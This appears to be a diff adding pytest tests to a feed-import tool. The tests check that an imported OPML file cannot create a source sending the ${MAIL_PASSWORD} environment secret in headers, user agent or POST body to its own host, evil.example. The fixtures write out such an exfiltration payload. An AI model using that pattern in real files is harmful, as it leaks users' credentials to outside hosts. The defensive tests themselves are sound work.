@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import json
 import tracemalloc
 from pathlib import Path
+from typing import Any
 
 import msgspec
 import pytest
@@ -286,3 +288,39 @@ def test_a_hostile_file_is_a_line_for_each_seed_that_is_none(desk: Desk) -> None
     assert "Traceback" not in done.err
     assert "(a+)+$ in article_url may take very long" in done.err
     assert all(name in done.err for name in ("nothing", "nested", "pattern"))
+
+
+@pytest.mark.parametrize(
+    ("own", "feed"),
+    [
+        ('{"id": "evil", "name": "e", "user_agent": "x ${MAIL_PASSWORD}"}', {}),
+        ('{"id": "evil", "name": "e"}', {"body": "k=${MAIL_PASSWORD}", "method": "POST"}),
+    ],
+)
+def test_a_file_makes_no_seed_that_sends_what_the_environment_holds(
+    desk: Desk, own: str, feed: dict[str, str]
+) -> None:
+    """Its hosts are the file's own: a secret of ours would go straight to whoever wrote it."""
+    address = "https://evil.example/"
+    hostile = {"kind": "api", "url": address, "headers": {"X": "${MAIL_PASSWORD}"}, **feed}
+    _import_into(desk, own, hostile)
+    done = desk.run("sources", "import", "evil.opml", "-o", "new")
+    assert done.code == 1
+    assert "${MAIL_PASSWORD}" in done.err
+    assert not (desk.folder / "new").exists()
+
+
+def test_headers_of_a_file_s_feed_are_left_out(desk: Desk) -> None:
+    feed = {"kind": "api", "url": "https://a.example/", "headers": {"X": "${MAIL_PASSWORD}"}}
+    _import_into(desk, '{"id": "plain", "name": "p"}', feed)
+    assert desk.run("sources", "import", "evil.opml", "-o", "new").code == 0
+    (made,) = load_sources([desk.folder / "new"])
+    assert made.feeds[0].headers is None
+
+
+def _import_into(desk: Desk, own: str, feed: dict[str, Any]) -> None:
+    root = etree.Element("opml")
+    outline = etree.SubElement(etree.SubElement(root, "body"), "outline", {"text": "e"})
+    outline.set("{urn:yongliang:seed}source", own)
+    outline.set("{urn:yongliang:seed}feed", json.dumps(feed))
+    (desk.folder / "evil.opml").write_bytes(etree.tostring(root))
